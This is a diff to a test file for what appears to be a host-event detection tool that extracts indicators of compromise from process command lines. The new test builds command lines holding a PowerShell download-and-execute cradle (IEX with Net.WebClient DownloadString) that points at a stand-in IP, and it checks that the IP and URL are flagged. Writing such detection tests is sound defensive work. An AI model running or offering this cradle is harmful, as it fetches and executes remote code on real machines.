@@ -62,6 +62,31 @@ test('one long block of a script gives way between its lines', async () => {
   expect(turns).toBeGreaterThan(3);
 });
 
+test('what grave commands speak to is read in slices as well, and each command once', async () => {
+  const grave = (index: number) =>
+    `powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a') ${index} ${'x'.repeat(4_000)}`;
+  const turnsAfterJudging = async (commandOf: (index: number) => string) => {
+    let turns = 0;
+    let is_judged = false;
+    const beat = () => {
+      turns += 1;
+      if (!is_judged) setImmediate(beat);
+    };
+    setImmediate(beat);
+    const starts = watchOf(5_001, '', (index) => (index < 400 ? commandOf(index) : 'example.exe'));
+    const { result } = await assessHosts(starts, SEEN, { onProgress: () => (turns = 0) });
+    is_judged = true;
+    expect(result.iocs).toEqual([
+      { type: 'ip', value: '203.0.113.9' },
+      { type: 'url', value: 'http://203.0.113.9/a' },
+    ]);
+    return turns;
+  };
+  // 400 commands of some 4,000 characters: 1.6 MB.
+  const one = await turnsAfterJudging(() => grave(0));
+  expect(await turnsAfterJudging(grave)).toBeGreaterThan(one + 20);
+}, 60_000);
+
 test('an abort is heard between two slices', async () => {
   const stop = new AbortController();
   const judging = assessHosts(watchOf(6_000, 'x'.repeat(300)), SEEN, { signal: stop.signal });
@@ -69,7 +94,7 @@ test('an abort is heard between two slices', async () => {
   await expect(judging).rejects.toThrow('enough');
 });
 
-function watchOf(starts: number, tail: string) {
+function watchOf(starts: number, tail: string, commandOf = (index: number) => `example.exe --id=${index} ${tail}`) {
   const watch = createHostWatch();
   for (let index = 0; index < starts; index += 1) {
     const raw = {
@@ -79,7 +104,7 @@ function watchOf(starts: number, tail: string) {
       UtcTime: '2026-11-24 09:12:01.100',
       ProcessGuid: `{${index}}`,
       Image: 'C:\\Program Files\\Example\\example.exe',
-      CommandLine: `example.exe --id=${index} ${tail}`,
+      CommandLine: commandOf(index),
     };
     const event = normalizeEvent(raw, `line ${index + 1}`);
     if (event) watch.note(event);
